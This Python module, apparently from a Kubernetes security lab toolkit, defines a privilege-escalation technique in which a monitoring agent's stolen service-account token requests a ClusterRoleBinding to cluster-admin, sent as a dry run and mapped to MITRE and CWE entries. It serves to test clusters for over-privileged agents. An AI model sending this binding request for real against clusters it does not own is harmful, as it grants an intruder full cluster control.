"""Use the token of a monitoring agent to bind its own account to cluster-admin.

A monitoring agent often gets more rights than it needs to read metrics. The attacker needs a
foothold in the agent's pod, where its token is mounted. They ask the apiserver to bind the
agent's service account to ``cluster-admin``. This is a dry run: it shows that the apiserver would
accept the binding, and stores nothing. It is refused if the agent has no right to create cluster
role bindings.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import TYPE_CHECKING

from labkit.errors import ProbeError
from labkit.model import Foothold, Model
from labkit.model.decision import Action
from labkit.model.workloads import token_caller, token_in
from labkit.techniques._lib.api.access import CHANNEL, api_url, may_all
from labkit.techniques._lib.api.ask import ask
from labkit.techniques._lib.machines.admin import create
from labkit.techniques._lib.machines.pod import find_pod, token_of, without_token
from labkit.techniques._lib.machines.reach import Answer
from labkit.techniques._lib.technique import ADMIN, POD, Prediction, SentRequest, Technique
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

AGENT = ("monitoring", "agent")
GROUP = "rbac.authorization.k8s.io"
PATH = f"/apis/{GROUP}/v1/clusterrolebindings?dryRun=All"
BIND = Action("create", "clusterrolebindings", GROUP)
BINDING = {
    "apiVersion": f"{GROUP}/v1",
    "kind": "ClusterRoleBinding",
    "metadata": {"name": "labkit-agent"},
    "roleRef": {"apiGroup": GROUP, "kind": "ClusterRole", "name": "cluster-admin"},
    "subjects": [{"kind": "ServiceAccount", "namespace": AGENT[0], "name": AGENT[1]}],
}


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether the agent's account may create a binding to cluster-admin."""
    agent = token_caller(model.environment, *AGENT)
    if agent is None:
        return Prediction(False, (str(token_in(model.environment, *AGENT)),))
    return may_all(model, agent, [BIND])


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return the request for the binding, if the pod has a token."""
    agent = token_caller(model.environment, *AGENT)
    return [] if agent is None else [SentRequest(agent, BIND)]


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Bind the agent to cluster-admin with its own token, as a dry run that stores nothing."""
    token = token_of(lab, find_pod(lab, *AGENT))
    if token is None:
        return without_token(lab, TECHNIQUE.name, foothold, *AGENT)
    body = json.dumps(BINDING).encode()

    def proof(answer: Answer) -> str:
        if json.loads(answer.body).get("kind") != BINDING["kind"]:
            raise ProbeError("the apiserver answered, but not with the binding")
        return "the apiserver takes a binding of the agent to cluster-admin (a dry run)"

    def control() -> str:
        create(lab, PATH, BINDING)
        return "the administrator may bind the agent to it (a dry run)"

    url = api_url(lab, PATH)
    return ask(
        lab,
        TECHNIQUE.name,
        foothold,
        url,
        body=body,
        token=token,
        proof=proof,
        control=control,
    )


TECHNIQUE = Technique(
    name="agent-token",
    title="Become cluster-admin with the token of a monitoring agent",
    footholds=(POD,),
    grants=(ADMIN,),
    about=CHANNEL,
    properties=("authorization",),
    attack=("T1528", "T1098.006"),
    stride=("elevation of privilege",),
    cwe=("CWE-250", "CWE-269"),
    sources=(
        "https://kubernetes.io/docs/concepts/security/rbac-good-practices/",
        "https://attack.mitre.org/techniques/T1098/006/",
    ),
    predict=predict,
    execute=execute,
    requests=requests,
)
